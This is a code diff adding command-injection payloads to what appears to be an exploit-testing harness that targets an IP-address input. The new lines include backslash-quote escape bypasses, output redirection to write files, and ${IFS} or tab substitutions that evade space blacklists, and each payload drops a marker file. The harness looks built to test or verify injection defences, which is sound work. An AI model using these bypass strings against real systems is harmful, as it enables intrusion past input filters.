@@ -102,7 +102,18 @@ STEPS: dict[str, Callable[[], None]] = {
                                           f"127.0.0.1`touch {m}`"]),
     "newline": marker_exploit(lambda m: [f"127.0.0.1\ntouch {m}", f"127.0.0.1\r\ntouch {m}\n"]),
     "quote": marker_exploit(lambda m: [f"x;touch {m} #';touch {m} #", f"x;touch {m} #\";touch {m} #",
-                                       f"127.0.0.1'\ntouch {m}\n'", f"127.0.0.1\"\ntouch {m}\n\""]),
+                                       f"127.0.0.1'\ntouch {m}\n'", f"127.0.0.1\"\ntouch {m}\n\"",
+                                       # a backslash before the quote: an escaper that backslashes quotes but
+                                       # not backslashes leaves '\\' + a free quote
+                                       f"127.0.0.1\\\";touch {m};#", f"127.0.0.1\\';touch {m};#",
+                                       f"127.0.0.1\\\"\ntouch {m}\n#", f"127.0.0.1\\'\ntouch {m}\n#"]),
+    # blacklists of separators or spaces: output redirection writes a file of the attacker's
+    # choosing, and ${IFS} or a tab stand in for a removed space
+    "redirect": marker_exploit(lambda m: [f"127.0.0.1 >{m}", f"127.0.0.1>{m}", f"127.0.0.1 >>{m}",
+                                          f"127.0.0.1'>'{m}", f"127.0.0.1\">\"{m}"]),
+    "no-space": marker_exploit(lambda m: [f"127.0.0.1;touch${{IFS}}{m}", f"127.0.0.1|touch${{IFS}}{m}",
+                                          f"127.0.0.1\ntouch${{IFS}}{m}", f"127.0.0.1;touch\t{m}",
+                                          f"127.0.0.1\ntouch\t{m}", f"$(touch${{IFS}}{m})"]),
     "option": option,
 }
 
